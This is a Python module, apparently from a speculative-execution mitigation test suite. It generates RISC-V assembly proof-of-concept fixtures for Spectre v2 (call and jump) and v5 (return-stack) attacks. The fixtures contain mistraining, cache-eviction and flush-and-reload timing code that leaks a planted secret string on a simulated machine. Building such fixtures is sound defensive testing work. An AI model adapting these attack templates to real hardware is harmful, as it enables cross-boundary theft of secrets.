"""
Proof-of-concept fixtures, generated as assembly and parsed with asm-core.

Each fixture contains the victim, the attacker driver in `main`, the
eviction and reload routines, and a `results` region the harness reads
after the guest exits. The secret position is taken from the data word
`target_pos`, written by the harness before every trial.
"""
import json
from dataclasses import dataclass
from enum import Enum

from specshield.asm.model import AsmUnit
from specshield.asm.parser import parse_unit
from specshield.errors import ConfigError
from specshield.sim.config import MachineConfig

DEFAULT_SECRET = "BOOM!"
DEFAULT_MISTRAIN = 40
DEFAULT_TRIALS = 10
PROBE_CANDIDATES = 256
EVICTION_FACTOR = 4


class PocKind(str, Enum):
    V2_CALL = "v2_call"
    V2_JUMP = "v2_jump"
    V5 = "v5"

    @classmethod
    def from_name(cls, name) -> "PocKind":
        if isinstance(name, cls):
            return name
        key = str(name).strip().lower().replace("-", "_")
        for kind in cls:
            if kind.value == key:
                return kind
        raise ConfigError(f"unknown attack variant '{name}' (expected v2-call, v2-jump or v5)")

    @property
    def matching_mitigation(self) -> str:
        return {PocKind.V2_CALL: "calls", PocKind.V2_JUMP: "jumps", PocKind.V5: "rsb"}[self]


@dataclass(frozen=True)
class PocVariant:
    kind: PocKind = PocKind.V2_CALL
    secret: str = DEFAULT_SECRET
    mistrain_count: int = DEFAULT_MISTRAIN
    trials_per_char: int = DEFAULT_TRIALS

    def __post_init__(self):
        object.__setattr__(self, "kind", PocKind.from_name(self.kind))
        if not self.secret:
            raise ConfigError("secret must not be empty")
        if any(not 0x20 <= ord(ch) <= 0x7E for ch in self.secret):
            raise ConfigError("secret must be printable ASCII")
        if self.mistrain_count < 1:
            raise ConfigError("mistrain count must be at least 1")
        if self.trials_per_char < 0:
            raise ConfigError("trials per character must be non-negative")


_DATA = """\
	.data
	.globl array1
array1:
	.byte 1, 2, 3, 4, 5, 6, 7, 8, 9, 10
	.balign 8
passInIdx:
	.dword 0
target_pos:
	.dword 0
temp:
	.dword 0
secretString:
	.asciz {secret}
	.balign {set_span}
array2:
	.zero {array2_bytes}
	.balign {set_span}
evict_buf:
	.zero {evict_bytes}
	.balign 8
results:
	.zero {results_bytes}
"""

_PROLOGUE = """\
	addi sp, sp, -{frame}
	sd ra, {ra_slot}(sp)
	sd fp, {fp_slot}(sp)
	addi fp, sp, {frame}
"""

_EPILOGUE = """\
	ld ra, {ra_slot}(sp)
	ld fp, {fp_slot}(sp)
	addi sp, sp, {frame}
	ret
"""

_EXIT = """\
	li a0, 0
	li a7, 93
	ecall
"""

# array2[array1[passInIdx] * block_bytes], the result kept in `temp`
_GADGET = """\
	la t0, passInIdx
	ld t1, 0(t0)
	la t2, array1
	add t2, t2, t1
	lbu t3, 0(t2)
	slli t3, t3, {shift}
	la t4, array2
	add t4, t4, t3
	lbu t5, 0(t4)
	la t6, temp
	sb t5, 0(t6)
"""

_EVICT = """\
	.type evict_array2, @function
evict_array2:
{prologue}\
	la t0, evict_buf
	li t1, {evict_lines}
	li t3, {block}
evict_loop:
	ld t2, 0(t0)
	add t0, t0, t3
	addi t1, t1, -1
	bnez t1, evict_loop
{epilogue}"""

# The settle loop outlasts any open speculative window, so the probes are
# never reached transiently.
_RELOAD = """\
	.type reload_probe, @function
reload_probe:
{prologue}\
	li t0, {settle}
settle_loop:
	addi t0, t0, -1
	bnez t0, settle_loop
	la t1, array2
	la t2, results
	li t3, {candidates}
	li t6, {block}
probe_loop:
	rdcycle t4
	lbu a1, 0(t1)
	rdcycle t5
	sub t5, t5, t4
	sd t5, 0(t2)
	add t1, t1, t6
	addi t2, t2, 8
	addi t3, t3, -1
	bnez t3, probe_loop
{epilogue}"""

_MAIN_HEAD = """\
	.text
	.globl main
	.type main, @function
main:
{prologue}\
	la s3, target_pos
	ld s3, 0(s3)
"""

_V2_DRIVER = """\
	la t0, secretString
	la t1, array1
	sub s4, t0, t1
	add s4, s4, s3
	li s2, {mistrain}
train_loop:
	beqz s2, attack_round
	andi a0, s2, 7
	la a5, {victim}
	j dispatch
attack_round:
	call evict_array2
	mv a0, s4
	la a5, {decoy}
dispatch:
	la t0, passInIdx
	sd a0, 0(t0)
{transfer}\
	beqz s2, finish
	addi s2, s2, -1
	j train_loop
finish:
	call reload_probe
{exit}"""

_V2_CALL_TARGETS = """\
	.type victimFunc, @function
victimFunc:
{prologue}\
{gadget}\
{epilogue}
	.type wantFunc, @function
wantFunc:
{prologue}\
{epilogue}"""

_V2_JUMP_TARGETS = """\
victimGadget:
{gadget}\
	j end
wantGadget:
	j end
"""

_V5_DRIVER = """\
	la s1, secretString
	add s1, s1, s3
	call evict_array2
	mv a0, s1
	call specFunc
	call reload_probe
{exit}
	.type specFunc, @function
specFunc:
{spec_prologue}\
	call frameDump
	lbu t0, 0(a0)
	slli t0, t0, {shift}
	la t1, array2
	add t1, t1, t0
	lbu t2, 0(t1)
	rdcycle t3
{spec_epilogue}
	.type frameDump, @function
frameDump:
	ld ra, {spec_ra_slot}(sp)
	addi sp, sp, {spec_frame}
	ld fp, -16(sp)
	ret
"""

MAIN_FRAME = 48
SPEC_FRAME = 64


def _prologue(frame: int) -> str:
    return _PROLOGUE.format(frame=frame, ra_slot=frame - 8, fp_slot=frame - 16)


def _epilogue(frame: int) -> str:
    return _EPILOGUE.format(frame=frame, ra_slot=frame - 8, fp_slot=frame - 16)


def log2_block(config: MachineConfig) -> int:
    """
    Raises:
        ConfigError: if block_bytes is not a power of two
    """
    block = config.block_bytes
    if block <= 0 or block & (block - 1):
        raise ConfigError(f"block_bytes must be a power of two, got {block}")
    return block.bit_length() - 1


def eviction_lines(config: MachineConfig) -> int:
    return EVICTION_FACTOR * config.cache_ways * config.cache_sets


def render_poc(variant: PocVariant, config: MachineConfig) -> str:
    """Assembly text of a fixture; see `build_poc`."""
    shift = log2_block(config)
    block = config.block_bytes
    small = {"prologue": _prologue(16), "epilogue": _epilogue(16)}
    parts = [_MAIN_HEAD.format(prologue=_prologue(MAIN_FRAME))]

    if variant.kind is PocKind.V5:
        parts.append(
            _V5_DRIVER.format(
                exit=_EXIT,
                shift=shift,
                spec_prologue=_prologue(SPEC_FRAME),
                spec_epilogue=_epilogue(SPEC_FRAME),
                spec_ra_slot=SPEC_FRAME - 8,
                spec_frame=SPEC_FRAME,
            )
        )
    else:
        calls = variant.kind is PocKind.V2_CALL
        parts.append(
            _V2_DRIVER.format(
                mistrain=variant.mistrain_count,
                victim="victimFunc" if calls else "victimGadget",
                decoy="wantFunc" if calls else "wantGadget",
                transfer="\tjalr a5\n" if calls else "\tjr a5\n\t.globl end\nend:\n",
                exit=_EXIT,
            )
        )
        gadget = _GADGET.format(shift=shift)
        if calls:
            parts.append(_V2_CALL_TARGETS.format(gadget=gadget, **small))
        else:
            parts.append(_V2_JUMP_TARGETS.format(gadget=gadget))

    parts.append(_EVICT.format(evict_lines=eviction_lines(config), block=block, **small))
    parts.append(
        _RELOAD.format(settle=config.spec_window, candidates=PROBE_CANDIDATES, block=block, **small)
    )
    parts.append(
        _DATA.format(
            secret=json.dumps(variant.secret),
            set_span=config.cache_sets * block,
            array2_bytes=PROBE_CANDIDATES * block,
            evict_bytes=eviction_lines(config) * block,
            results_bytes=PROBE_CANDIDATES * 8,
        )
    )
    return "\n".join(parts)


def build_poc(variant: PocVariant, config: MachineConfig) -> AsmUnit:
    """
    Generate the attack fixture for a variant.

    Args:
        variant: Which attack and its parameters
        config: Cache geometry the fixture is sized for

    Returns:
        AsmUnit: The parsed fixture, named after the variant

    Raises:
        ConfigError: if block_bytes is not a power of two
    """
    return parse_unit(render_poc(variant, config), name=f"{variant.kind.value}.s")
